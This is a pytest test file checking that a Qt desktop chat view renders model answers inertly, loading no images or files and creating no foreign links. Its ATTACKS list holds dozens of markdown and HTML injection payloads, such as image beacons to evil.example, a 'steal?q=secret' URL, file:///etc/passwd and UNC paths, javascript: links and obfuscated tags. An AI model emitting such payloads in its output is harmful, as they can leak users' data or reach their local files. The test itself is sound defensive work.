"""Nothing that a model or a document says can load a file, a picture or an address, or be clicked.

The rendered document is looked at, not the HTML: what Qt made of it, and what it asked to load on the way.
"""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QTextDocument

from core.runs.trace import Draft, TraceState
from core.types import Answer, Citation, Evidence, Insufficiency, Mode, NearestPassage, Span, Statement
from core.types import StatementStatus as Status
from desktop.conversation.conversation import Turn
from desktop.conversation.conversation_view import ConversationView

ATTACKS = [
    "![alt](https://evil.example/a.png)",
    "![](file:///etc/passwd)",
    "![][ref]\n\n[ref]: https://evil.example/a.png",
    "[words][ref]\n\n[ref]: https://evil.example/steal?q=secret",
    "[ref]\n\n[ref]: file:///etc/passwd 'title'",
    "[words](https://evil.example/click)",
    "[words](mailto:a@evil.example)",
    "[words](file:///etc/passwd)",
    "[words](\\\\\\\\evil.example\\\\share\\\\x)",
    "[words](//evil.example/share)",
    "[1](https://evil.example/as-a-citation)",
    "[words](cite:0/1/0)",
    "[words](status:0/0) [words](steps:0) [words](near:0/0) [words](anyway:0) [words](confidence:0)",
    "[![](https://evil.example/a.png)](https://evil.example)",
    "<https://evil.example/auto>",
    "<mailto:a@evil.example>",
    "https://evil.example/bare and www.evil.example",
    "\\\\evil.example\\share\\picture.png",
    "<img src='https://evil.example/a.png'>",
    '<img src="file:///etc/passwd" onerror="x">',
    "<img src='\\\\evil.example\\share\\a.png'>",
    "<a href='https://evil.example'>words</a>",
    "<a href='cite:0/1/0'>words</a>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<style>@import url(https://evil.example/a.css);</style>",
    "<p style='background-image:url(https://evil.example/a.png)'>words</p>",
    "<table background='https://evil.example/a.png'><tr><td>x</td></tr></table>",
    "<object data='data:text/html,x'></object><iframe src='https://evil.example'></iframe>",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "[words](data:text/html;base64,PHNjcmlwdD4=)",
    "[words](javascript:alert(1))",
    "| a |\n|---|\n| ![](https://evil.example/a.png) [words](https://evil.example) |",
    "- ![](https://evil.example/a.png)\n- <img src=https://evil.example/b.png>",
    "`<img src=https://evil.example/c.png>`\n\n    <img src=https://evil.example/d.png>",
    "&lt;img src=https://evil.example/e.png&gt;",
    "\\`![x](https://evil.example/a.png)` a``` ![x](//evil.example/q)",
    "` a\nb ` ![x](//evil.example/q) `` [w](https://evil.example/w) `",
    "&#60;img src=https://evil.example/e.png&#62; &#x3C;a href=//evil.example/x&#x3E;words",
    "<IMG\nSRC=//evil.example/f.png\n>",
    "<a\thref=//evil.example/x\ttitle='<img src=file:///etc/passwd>'>words</a>",
    "<svg/onload=x><image href='https://evil.example/g.png'/></svg><video poster='//evil.example/p.png'>",
    "<picture><source srcset='//evil.example/s.png'></picture><input type=image src='//evil.example/i.png'>",
    "<body background=//evil.example/b.png><base href=//evil.example/><meta http-equiv=refresh content=0>",
    "<scr<b>ipt></scr</b>ipt><im<i>g src=//evil.example/h.png>",
    "[words](https://evil.example 'title <img src=//evil.example/t.png>')",
    '[words](<file:///etc/passwd>)\n\n[r2]: <\\\\\\\\evil.example\\\\share> "t"\n\n![w][r2]',
    "Heading\n===\n# [h](//evil.example/h) ![](//evil.example/h.png)",
    "> ![](//evil.example/q.png)\n1. ![](//evil.example/l.png)",
    "words[^1]\n\n[^1]: ![](https://evil.example/n.png)",
    "\\![x](https://evil.example/a.png) !\\[x](https://evil.example/b.png)",
    "<span style=\"background:url('//evil.example/c.png')\">words</span> url(https://evil.example/u.png)",
    "<!-- --><img src=//evil.example/k.png><!-- <![CDATA[<img src=//evil.example/m.png>]]>",
    "\u200b<img src=//evil.example/z.png> <\u200bimg src=//evil.example/y.png>",
    "[words](ftp://evil.example/x) [words](smb://evil.example/x) [words](vscode://file/etc/passwd)",
    "[words](qrc:/x.png) ![](qrc:/x.png) ![](:/x.png) <img src=':/x.png'>",
]
CITED = Citation(1, "d", "h", "a.pdf", "c1", 0, 1, (Span(0, 5),), "quote", "snippet", 0.5)
DEEDS = {"confidence:0", "copy:0", "again:0", "edit:0", "good:0", "bad:0"}  # below each answer
OURS = re.compile(r"(cite|status|steps|near|anyway|coverage|confidence|copy|again|edit|good|bad):[\d/]+")


class _Watched(ConversationView):
    """Notes what the document asks to load, and what comes of it."""

    def __init__(self) -> None:
        super().__init__()
        self.loads: list[tuple[str, bool]] = []

    def loadResource(self, kind: int, name: QUrl) -> object:
        given = super().loadResource(kind, name)
        self.loads.append((name.toString(), given.isNull()))
        return given


@pytest.fixture
def view(qtbot) -> _Watched:
    made = _Watched()
    qtbot.addWidget(made)
    made.resize(600, 500)
    with qtbot.waitExposed(made):
        made.show()
    return made


def _show(view: _Watched, answer: Answer, question: str = "What is it?") -> None:
    state = TraceState(answer=answer, outcome="answered")
    view.start_turn(Turn(0, question, Mode.CHAT))
    view._turns[-1] = Turn(0, question, Mode.CHAT, state, 1.0)
    view.finish_turn(view._turns[-1])
    view.viewport().grab()  # pictures are asked for when they are drawn


def _links(view: _Watched) -> list[str]:
    found = []
    block = view.document().begin()
    while block.isValid():
        fragments = block.begin()
        while not fragments.atEnd():
            form = fragments.fragment().charFormat()
            assert not form.isImageFormat()
            if form.isAnchor():
                found.append(form.anchorHref())
            fragments += 1
        block = block.next()
    return found


def _assert_inert(view: _Watched) -> None:
    assert view.loads == []
    assert [link for link in _links(view) if not OURS.fullmatch(link)] == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_answer_loads_nothing_and_links_nowhere(view: _Watched, attack: str) -> None:
    """As draft, text with and without a verdict, question, gap, passage and quote: wherever it can stand."""
    turn = Turn(0, "What is it?", Mode.CHAT, TraceState(draft=Draft(1, attack)))
    view.start_turn(turn)
    view.show_draft(turn)
    view.viewport().grab()
    assert (view.loads, _links(view)) == ([], [])
    said = Statement(attack, Status.UNSUPPORTED, (Evidence(1, "d", 1, (Span(0, 5),), attack),), attack)
    passage = NearestPassage("d", "h", attack, "c", 0, 1, (Span(0, 5),), attack, 0.5)
    answer = Answer(
        f"{attack} [1]",
        (said,),
        (replace(CITED, quote=attack, filename=attack),),
        (Insufficiency("", attack),),
        nearest=(passage,),
    )
    _show(view, answer, question=attack)
    _assert_inert(view)
    # Only what the program itself wrote: this answer has one chip, one glyph and one passage.
    links = set(_links(view))
    assert links <= {"cite:0/1", "cite:0/1/0", "status:0/0", "near:0/0"} | DEEDS
    for link in links:
        assert "<img" not in view.tip_of(QUrl(link))
        assert "<a " not in view.tip_of(QUrl(link))


def test_a_link_of_the_answer_shows_its_address_and_does_nothing(view: _Watched) -> None:
    _show(view, Answer("See [the refund](https://evil.example/a?b=1&c=2) and <https://evil.example/d>."))
    assert "See the refund (https://evil.example/a?b=1&c=2) and https://evil.example/d." in view.toPlainText()
    assert set(_links(view)) == DEEDS


@pytest.mark.parametrize("kind", list(QTextDocument.ResourceType))
@pytest.mark.parametrize(
    "address",
    ["file:///etc/hostname", "https://evil.example/a", "//evil.example/a", "data:text/plain,x", "x.png"],
)
def test_the_view_is_given_nothing(view: _Watched, kind: QTextDocument.ResourceType, address: str) -> None:
    """Even if something were asked for: HTML set directly gets an empty picture, never the file's bytes."""
    given = view.loadResource(kind.value, QUrl(address))
    assert given.isNull()
    assert view.document().resource(kind.value, QUrl(address)) is None or view.loads


def test_a_foreign_link_that_is_activated_does_nothing(view: _Watched, qtbot) -> None:
    for address in ("https://evil.example", "file:///etc/passwd", "mailto:a@evil.example", "javascript:x"):
        source = view.source()
        with qtbot.assertNotEmitted(view.citation_activated), qtbot.assertNotEmitted(view.anyway_requested):
            view.anchorClicked.emit(QUrl(address))
        assert view.source() == source
    assert not view.openLinks()
    assert not view.openExternalLinks()
